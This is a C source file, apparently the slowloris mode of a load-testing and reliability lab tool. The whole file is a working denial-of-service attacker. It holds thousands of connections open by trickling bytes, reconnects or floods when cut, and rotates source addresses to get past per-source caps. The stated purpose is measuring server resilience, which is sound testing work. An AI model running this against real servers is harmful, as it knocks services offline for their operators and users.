/*
 * slowloris.c - ringlab-load's attacker: `ringlab-load slowloris --target ADDR
 * --connections N --interval DUR [--source RANGE]`.
 *
 * It holds N connections open by sending one byte ('x', never a newline) on each per
 * interval, reads and drops whatever the server sent back just before it sends the next
 * byte (it never wakes up for a reply: only a cut, the server's FIN or reset, wakes it
 * for a connection), and reconnects a connection the server cuts, after --reconnect-delay (default: one interval; 0: at once, a connect
 * flood).  It reports the connections held (now, mean, peak), cuts per second,
 * reconnects, connect failures and its own CPU.
 *
 * What it shows: an attacker costs little.  One thread, one epoll set, and one timer heap
 * ordered by each connection's next due time: a loop turn touches only the sockets that
 * have an event or whose byte is due, never every socket.  The first connects are spread
 * over the first interval, and so are the bytes from then on.  --slack DUR batches them:
 * one wake-up per DUR sends everything due within it.  It is off by default: measured
 * beside ringlab-load on one CPU, 10 ms bursts raised the victim's p99 more (median 6.8x)
 * than one small wake-up per byte did (3.7x); results/reliability.md.
 */
#include "slowloris.h"

#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <unistd.h>

#include "addr.h"
#include "cli.h"
#include "clock.h"
#include "json.h"
#include "log.h"

#define MAX_EVENTS 256
#define SLACK_NS   0 /* default --slack: each byte on time (see the top comment) */

enum sl_state { SL_IDLE, SL_CONNECTING, SL_HELD };

struct sl_conn {
	int fd;
	enum sl_state st;
	uint32_t heap_pos; /* index in the timer heap */
	uint32_t id;	   /* which --source address it binds to */
	uint64_t due_ns;   /* next byte, or next connect attempt */
};

struct sl_opts {
	struct rl_addr target;
	struct rl_addr_range source;
	bool have_source;
	unsigned connections;
	uint64_t interval_ns;
	uint64_t reconnect_ns;
	uint64_t duration_ns; /* 0: until SIGINT/SIGTERM */
	uint64_t slack_ns;    /* wake at most once per slack: what is due within it goes */
	const char *json_path;
	const char *target_str;
	const char *source_str;
	bool quiet;
};

struct sl_run {
	struct sl_opts o;
	struct sl_conn *conns;
	uint32_t *heap; /* connection indices, a binary min-heap on due_ns */
	uint32_t heap_len;
	int ep;
	unsigned held, peak;
	uint64_t connects, reconnects, cuts, connect_errors, bytes_sent, bytes_read;
	double held_area; /* integral of held over time, for the mean */
	uint64_t held_since_ns;
	uint8_t rbuf[4096];
};

/* ---- the timer heap ---- */

static bool due_before(const struct sl_run *r, uint32_t a, uint32_t b)
{
	return r->conns[a].due_ns < r->conns[b].due_ns;
}

static void heap_set(struct sl_run *r, uint32_t pos, uint32_t ci)
{
	r->heap[pos] = ci;
	r->conns[ci].heap_pos = pos;
}

static void heap_up(struct sl_run *r, uint32_t pos)
{
	uint32_t ci = r->heap[pos], parent;

	while (pos && due_before(r, ci, r->heap[parent = (pos - 1) / 2])) {
		heap_set(r, pos, r->heap[parent]);
		pos = parent;
	}
	heap_set(r, pos, ci);
}

static void heap_down(struct sl_run *r, uint32_t pos)
{
	uint32_t ci = r->heap[pos], child;

	for (;;) {
		child = 2 * pos + 1;
		if (child >= r->heap_len)
			break;
		if (child + 1 < r->heap_len && due_before(r, r->heap[child + 1], r->heap[child]))
			child++;
		if (!due_before(r, r->heap[child], ci))
			break;
		heap_set(r, pos, r->heap[child]);
		pos = child;
	}
	heap_set(r, pos, ci);
}

/* Moves connection ci's next action to `due` (every connection is always in the heap). */
static void reschedule(struct sl_run *r, uint32_t ci, uint64_t due)
{
	uint64_t old = r->conns[ci].due_ns;

	r->conns[ci].due_ns = due;
	if (due < old)
		heap_up(r, r->conns[ci].heap_pos);
	else
		heap_down(r, r->conns[ci].heap_pos);
}

/* ---- connections ---- */

static void held_change(struct sl_run *r, int delta, uint64_t now)
{
	r->held_area += (double)r->held * (double)(now - r->held_since_ns);
	r->held_since_ns = now;
	r->held = (unsigned)((int)r->held + delta);
	if (r->held > r->peak)
		r->peak = r->held;
}

/* Closes connection ci (cut by the server when `cut`) and schedules its reconnect. */
static void drop(struct sl_run *r, uint32_t ci, bool cut, uint64_t now)
{
	struct sl_conn *c = &r->conns[ci];

	if (c->fd >= 0)
		close(c->fd); /* also leaves the epoll set */
	if (c->st == SL_HELD) {
		held_change(r, -1, now);
		if (cut)
			r->cuts++;
	}
	c->fd = -1;
	c->st = SL_IDLE;
	reschedule(r, ci, now + r->o.reconnect_ns);
}

/* Starts a nonblocking connect for ci.  Failures count and retry after the delay. */
static void dial(struct sl_run *r, uint32_t ci, uint64_t now)
{
	struct sl_conn *c = &r->conns[ci];
	struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.u32 = ci};
	struct rl_addr src;
	int one = 1, fd;

	fd = socket(rl_addr_family(&r->o.target), SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		goto fail;
	if (r->o.have_source) {
		setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
		rl_addr_range_get(&r->o.source, c->id, &src);
		if (bind(fd, (struct sockaddr *)&src.ss, src.len) < 0)
			goto fail_fd;
	}
	if (connect(fd, (const struct sockaddr *)&r->o.target.ss, r->o.target.len) < 0 &&
	    errno != EINPROGRESS)
		goto fail_fd;
	if (epoll_ctl(r->ep, EPOLL_CTL_ADD, fd, &ev) < 0)
		goto fail_fd;
	if (r->connects++ >= r->o.connections)
		r->reconnects++;
	c->fd = fd;
	c->st = SL_CONNECTING;
	reschedule(r, ci, now + r->o.interval_ns); /* its first byte, if it connects */
	return;
fail_fd:
	close(fd);
fail:
	if (r->connect_errors++ == 0)
		rl_warn("slowloris: connect: %s (counted; retrying)", strerror(errno));
	c->fd = -1;
	c->st = SL_IDLE;
	reschedule(r, ci, now + (r->o.reconnect_ns ? r->o.reconnect_ns : r->o.interval_ns));
}

/*
 * Reads and drops what connection ci's server sent.  Returns false when the server cut
 * it (EOF or reset: then it is dropped and its reconnect scheduled).
 */
static bool drain(struct sl_run *r, uint32_t ci, uint64_t now)
{
	struct sl_conn *c = &r->conns[ci];
	ssize_t n;

	for (;;) {
		n = recv(c->fd, r->rbuf, sizeof(r->rbuf), 0);
		if (n > 0) {
			r->bytes_read += (uint64_t)n;
			continue;
		}
		if (n < 0 && (errno == EAGAIN || errno == EINTR))
			return true;
		drop(r, ci, true, now);
		return false;
	}
}

/*
 * An event on connection ci: its connect finished, or the server cut it.  A held
 * connection listens for EPOLLRDHUP only (EPOLLHUP and EPOLLERR always come): a reply
 * waits for the next byte's drain, so an echoing server costs no wake-up per byte.
 */
static void on_event(struct sl_run *r, uint32_t ci, uint32_t events, uint64_t now)
{
	struct sl_conn *c = &r->conns[ci];
	struct epoll_event ev = {.events = EPOLLRDHUP, .data.u32 = ci};
	int err = 0;
	socklen_t len = sizeof(err);

	if (c->st == SL_CONNECTING) {
		if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0 || err) {
			/* A reset right after the handshake is the server refusing it (a per-source
			 * cap), and so is a SYN never answered (ETIMEDOUT: its SYNs dropped by the
			 * server's filter, or a firewall): cuts.  Anything else (refused,
			 * unreachable) never connected. */
			if (err == ECONNRESET || err == EPIPE || err == ETIMEDOUT)
				r->cuts++;
			else
				r->connect_errors++;
			drop(r, ci, false, now);
			return;
		}
		c->st = SL_HELD;
		held_change(r, +1, now);
		epoll_ctl(r->ep, EPOLL_CTL_MOD, c->fd, &ev);
	}
	if (events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR))
		drain(r, ci, now); /* reads up to the EOF or reset of a cut */
}

/* The due action of connection ci: its byte, or a (re)connect. */
static void on_due(struct sl_run *r, uint32_t ci, uint64_t now)
{
	struct sl_conn *c = &r->conns[ci];

	if (c->st == SL_IDLE) {
		dial(r, ci, now);
		return;
	}
	if (c->st == SL_HELD) {
		if (!drain(r, ci, now))
			return;
		if (send(c->fd, "x", 1, MSG_NOSIGNAL) == 1)
			r->bytes_sent++;
		else if (errno != EAGAIN) {
			drop(r, ci, true, now);
			return;
		}
	}
	/* Still connecting after an interval: give it another. */
	reschedule(r, ci, now + r->o.interval_ns);
}

/* ---- options and report ---- */

enum { OPT_INTERVAL = 256, OPT_RECONNECT, OPT_SOURCE, OPT_JSON, OPT_SLACK };

static const struct option sl_long[] = {
    {"target", required_argument, NULL, 't'},
    {"connections", required_argument, NULL, 'c'},
    {"interval", required_argument, NULL, OPT_INTERVAL},
    {"reconnect-delay", required_argument, NULL, OPT_RECONNECT},
    {"source", required_argument, NULL, OPT_SOURCE},
    {"duration", required_argument, NULL, 'd'},
    {"json", required_argument, NULL, OPT_JSON},
    {"slack", required_argument, NULL, OPT_SLACK},
    {"quiet", no_argument, NULL, 'q'},
    {"help", no_argument, NULL, 'h'},
    {NULL, 0, NULL, 0},
};

static void sl_usage(FILE *f)
{
	fputs("Usage: ringlab-load slowloris --target ADDR [options]\n"
	      "\n"
	      "Holds connections open by sending one byte ('x') on each per interval; a\n"
	      "connection the server cuts is reconnected.  Reports the connections held, cuts\n"
	      "per second, reconnects and its own CPU.\n"
	      "\n"
	      "  -t, --target ADDR          HOST:PORT or [V6ADDR]:PORT to attack (required)\n"
	      "  -c, --connections N        connections to hold (default 1000)\n"
	      "      --interval DUR         one byte per connection per DUR (default 1s)\n"
	      "      --reconnect-delay DUR  wait this long before reconnecting a cut connection\n"
	      "                             (default: --interval; 0: at once, a connect flood)\n"
	      "      --source RANGE         bind round-robin to these source addresses, e.g.\n"
	      "                             127.0.0.2-127.0.0.50\n"
	      "      --slack DUR            wake at most once per DUR, sending what is due\n"
	      "                             within it (default 0: each byte on time)\n"
	      "  -d, --duration DUR         stop after DUR (default: at SIGINT/SIGTERM)\n"
	      "      --json FILE            write the results as JSON ('-': stdout)\n"
	      "  -q, --quiet                no summary line on stdout\n",
	      f);
}

/* Returns 0, 1 after --help, or 2 on bad usage. */
static int sl_parse(int argc, char **argv, struct sl_opts *o)
{
	int opt, ret = 0;

	memset(o, 0, sizeof(*o));
	o->connections = 1000;
	o->interval_ns = RL_NSEC_PER_SEC;
	o->reconnect_ns = UINT64_MAX; /* = interval */
	o->slack_ns = SLACK_NS;
	optind = 1;
	while ((opt = getopt_long(argc, argv, "t:c:d:qh", sl_long, NULL)) != -1) {
		switch (opt) {
		case 't':
			o->target_str = optarg;
			break;
		case 'c':
			ret = rl_cli_uint("connections", optarg, 1, 1000000, &o->connections);
			break;
		case OPT_INTERVAL:
			ret =
			    rl_cli_duration("interval", optarg, RL_NSEC_PER_MSEC, &o->interval_ns);
			break;
		case OPT_RECONNECT:
			ret = rl_cli_duration("reconnect-delay", optarg, 0, &o->reconnect_ns);
			break;
		case OPT_SOURCE:
			o->source_str = optarg;
			o->have_source = true;
			if (rl_addr_range_parse(optarg, &o->source))
				return rl_cli_usage_error("invalid --source range '%s'", optarg);
			break;
		case 'd':
			ret =
			    rl_cli_duration("duration", optarg, RL_NSEC_PER_MSEC, &o->duration_ns);
			break;
		case OPT_JSON:
			o->json_path = optarg;
			break;
		case OPT_SLACK:
			ret = rl_cli_duration("slack", optarg, 0, &o->slack_ns);
			break;
		case 'q':
			o->quiet = true;
			break;
		case 'h':
			sl_usage(stdout);
			return 1;
		default:
			return rl_cli_bad_option(opt, argv);
		}
		if (ret)
			return 2;
	}
	if (optind < argc)
		return rl_cli_usage_error("unexpected argument '%s'", argv[optind]);
	if (!o->target_str)
		return rl_cli_usage_error("missing --target ADDR");
	if (rl_addr_parse(o->target_str, false, &o->target) ||
	    rl_addr_family(&o->target) == AF_UNIX || !rl_addr_port(&o->target))
		return rl_cli_usage_error("invalid --target '%s' (HOST:PORT, port not 0)",
					  o->target_str);
	if (o->have_source && rl_addr_family(&o->source.first) != rl_addr_family(&o->target))
		return rl_cli_usage_error("--source '%s' is not the family of --target",
					  o->source_str);
	if (o->reconnect_ns == UINT64_MAX)
		o->reconnect_ns = o->interval_ns;
	return 0;
}

static double cpu_seconds(void)
{
	struct rusage ru;

	getrusage(RUSAGE_SELF, &ru);
	return (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 +
	       (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6;
}

static int sl_report(const struct sl_run *r, double secs, double cpu)
{
	double mean = secs > 0 ? r->held_area / (secs * 1e9) : 0;
	struct lg_json j;
	FILE *f;
	int ret;

	if (!r->o.quiet)
		printf("slowloris %s: %.1f s, held %u now, %.0f mean, %u peak of %u; cuts %llu "
		       "(%.0f/s), reconnects %llu, connect errors %llu, bytes sent %llu; CPU "
		       "%.1f%% of a core\n",
		       r->o.target_str, secs, r->held, mean, r->peak, r->o.connections,
		       (unsigned long long)r->cuts, secs > 0 ? (double)r->cuts / secs : 0,
		       (unsigned long long)r->reconnects, (unsigned long long)r->connect_errors,
		       (unsigned long long)r->bytes_sent, secs > 0 ? 100 * cpu / secs : 0);
	if (!r->o.json_path)
		return 0;
	f = strcmp(r->o.json_path, "-") ? fopen(r->o.json_path, "w") : stdout;
	if (!f) {
		rl_err("cannot write --json %s: %s", r->o.json_path, strerror(errno));
		return -errno;
	}
	lg_json_init(&j, f);
	lg_json_object(&j, NULL);
	lg_json_str(&j, "mode", "slowloris");
	lg_json_str(&j, "target", r->o.target_str);
	lg_json_str(&j, "source", r->o.source_str);
	lg_json_uint(&j, "connections", r->o.connections);
	lg_json_double(&j, "interval_s", (double)r->o.interval_ns / 1e9);
	lg_json_double(&j, "reconnect_delay_s", (double)r->o.reconnect_ns / 1e9);
	lg_json_double(&j, "seconds", secs);
	lg_json_uint(&j, "held", r->held);
	lg_json_double(&j, "held_mean", mean);
	lg_json_uint(&j, "held_peak", r->peak);
	lg_json_uint(&j, "connects", r->connects);
	lg_json_uint(&j, "reconnects", r->reconnects);
	lg_json_uint(&j, "cuts", r->cuts);
	lg_json_double(&j, "cuts_per_s", secs > 0 ? (double)r->cuts / secs : 0);
	lg_json_uint(&j, "connect_errors", r->connect_errors);
	lg_json_uint(&j, "bytes_sent", r->bytes_sent);
	lg_json_uint(&j, "bytes_read", r->bytes_read);
	lg_json_double(&j, "cpu_s", cpu);
	lg_json_double(&j, "cpu_share", secs > 0 ? cpu / secs : 0);
	lg_json_end_object(&j);
	ret = lg_json_finish(&j);
	if (f != stdout && fclose(f) != 0)
		ret = -EIO;
	return ret;
}

/* ---- the loop ---- */

static void raise_nofile(unsigned need)
{
	struct rlimit rl;

	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)need + 64)
		rl_warn("slowloris: RLIMIT_NOFILE %llu is below %u connections",
			(unsigned long long)rl.rlim_cur, need);
}

static int sl_loop(struct sl_run *r, int sfd)
{
	struct epoll_event ev[MAX_EVENTS];
	struct epoll_event sev = {.events = EPOLLIN, .data.u32 = UINT32_MAX};
	uint64_t start = rl_now_ns(), now = start, end, wait;
	uint32_t i;
	int n, k;

	end = r->o.duration_ns ? start + r->o.duration_ns : UINT64_MAX;
	if (epoll_ctl(r->ep, EPOLL_CTL_ADD, sfd, &sev) < 0)
		return -errno;
	r->held_since_ns = start;
	for (i = 0; i < r->o.connections; i++) { /* first connects spread over an interval */
		r->conns[i] = (struct sl_conn){.fd = -1, .id = i, .st = SL_IDLE};
		r->conns[i].due_ns = start + r->o.interval_ns * i / r->o.connections;
		r->heap[i] = i;
		r->conns[i].heap_pos = i;
	}
	r->heap_len = r->o.connections; /* due times ascend with i: already a heap */
	while (now < end) {
		wait = r->conns[r->heap[0]].due_ns;
		wait = wait > now ? wait - now : 0;
		if (wait && wait < r->o.slack_ns)
			wait = r->o.slack_ns;
		if (end - now < wait)
			wait = end - now;
		n = epoll_wait(r->ep, ev, MAX_EVENTS, (int)((wait + 999999) / 1000000));
		if (n < 0 && errno != EINTR)
			return -errno;
		now = rl_now_ns();
		for (k = 0; k < n; k++) {
			if (ev[k].data.u32 == UINT32_MAX)
				return 0; /* SIGINT/SIGTERM */
			if (r->conns[ev[k].data.u32].fd >= 0)
				on_event(r, ev[k].data.u32, ev[k].events, now);
		}
		/* Everything due within the slack goes now: one wake-up per slack, not one per
		 * connection (the first connects and the bytes are spread evenly). */
		while (r->conns[r->heap[0]].due_ns <= now + r->o.slack_ns)
			on_due(r, r->heap[0], now);
	}
	return 0;
}

int lg_slowloris_main(int argc, char **argv)
{
	struct sl_run *r = calloc(1, sizeof(*r));
	double cpu0, t0, secs;
	sigset_t set;
	int ret, sfd;
	uint32_t i;

	if (!r)
		return 1;
	ret = sl_parse(argc, argv, &r->o);
	if (ret) {
		free(r);
		return ret == 1 ? 0 : 2;
	}
	signal(SIGPIPE, SIG_IGN);
	sigemptyset(&set);
	sigaddset(&set, SIGINT);
	sigaddset(&set, SIGTERM);
	sigprocmask(SIG_BLOCK, &set, NULL);
	sfd = signalfd(-1, &set, SFD_CLOEXEC);
	raise_nofile(r->o.connections);
	r->conns = calloc(r->o.connections, sizeof(*r->conns));
	r->heap = calloc(r->o.connections, sizeof(*r->heap));
	r->ep = epoll_create1(EPOLL_CLOEXEC);
	ret = (!r->conns || !r->heap) ? -ENOMEM : (r->ep < 0 || sfd < 0) ? -errno : 0;
	cpu0 = cpu_seconds();
	t0 = rl_wall_s();
	if (!ret)
		ret = sl_loop(r, sfd);
	secs = rl_wall_s() - t0;
	if (ret)
		rl_err("slowloris: %s", strerror(-ret));
	held_change(r, 0, rl_now_ns());
	if (!ret && sl_report(r, secs, cpu_seconds() - cpu0) < 0)
		ret = -EIO;
	/* Reset, not FIN: a FIN would leave thousands of TIME_WAIT sockets whose timers all
	 * expire together a minute later, a burst of softirq work in whatever run is being
	 * measured then (reliability tests alternate attacks with clean runs). */
	for (i = 0; r->conns && i < r->o.connections; i++)
		if (r->conns[i].fd >= 0) {
			struct linger abort = {.l_onoff = 1, .l_linger = 0};

			setsockopt(r->conns[i].fd, SOL_SOCKET, SO_LINGER, &abort, sizeof(abort));
			close(r->conns[i].fd);
		}
	if (r->ep >= 0)
		close(r->ep);
	if (sfd >= 0)
		close(sfd);
	free(r->conns);
	free(r->heap);
	free(r);
	return ret ? 1 : 0;
}
